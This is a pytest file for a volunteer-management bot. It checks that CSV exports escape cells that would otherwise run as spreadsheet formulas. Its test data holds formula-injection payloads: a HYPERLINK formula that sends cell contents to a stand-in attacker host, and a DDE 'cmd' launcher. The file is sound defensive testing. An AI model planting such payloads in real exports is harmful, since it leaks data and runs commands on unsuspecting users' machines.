"""CSV exports opened in a spreadsheet never run what a volunteer typed as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest

from bot.services import Services
from bot.spreadsheet import safe_cell
from bot.storage.db import Database
from tests.fakes.chat import Chat
from tests.report_data import ALICE_TG, build_campaign
from tests.test_report_cli import bot

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.fixture
async def campaign(services: Services) -> Services:
    await build_campaign(services.db)
    return services


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Chloé = bénévole", "Chloé = bénévole"),
        ("+33612345601", "+33612345601"),  # a phone number computes nothing
        ("-12.5", "-12.5"),
        (-3, -3),
    ],
)
def test_cells_that_would_be_formulas_are_shown_as_typed(typed: object, written: object) -> None:
    assert safe_cell(typed) == written


async def test_a_volunteer_named_like_a_formula_reaches_the_organizer_as_text(
    campaign: Services, chat: Callable[..., Chat], db: Database
) -> None:
    async with db.transaction() as tx:
        await tx.execute(
            "UPDATE volunteers SET first_name = :name WHERE id = 2", {"name": HYPERLINK}
        )
    alice = chat(ALICE_TG)
    await alice.send("/export")
    await alice.tap("Bénévoles")
    assert alice.last.attachment is not None
    rows = read_csv(alice.last.attachment.content)
    names = [r[rows[0].index("first_name")] for r in rows[1:]]
    assert names == ["Alice", "'" + HYPERLINK, "Chloé"]


async def test_the_command_line_calls_export_neutralises_contacts_and_notes(
    campaign: Services, db: Database, tmp_path: Path
) -> None:
    async with db.transaction() as tx:
        await tx.execute("UPDATE call_contacts SET name = '@SUM(1+1)' WHERE id = 1")
        await tx.execute("UPDATE tasks SET title = '-1+cmd' WHERE id = 2")
    target = tmp_path / "calls.csv"
    done = bot(campaign, "export", "calls", str(target))
    assert done.returncode == 0, done.stderr
    rows = read_csv(target.read_bytes())
    cells = {cell for row in rows for cell in row}
    assert "'@SUM(1+1)" in cells and "@SUM(1+1)" not in cells
    assert "'-1+cmd" in cells and "-1+cmd" not in cells
    assert "+33612345601" in cells
    assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in cells)
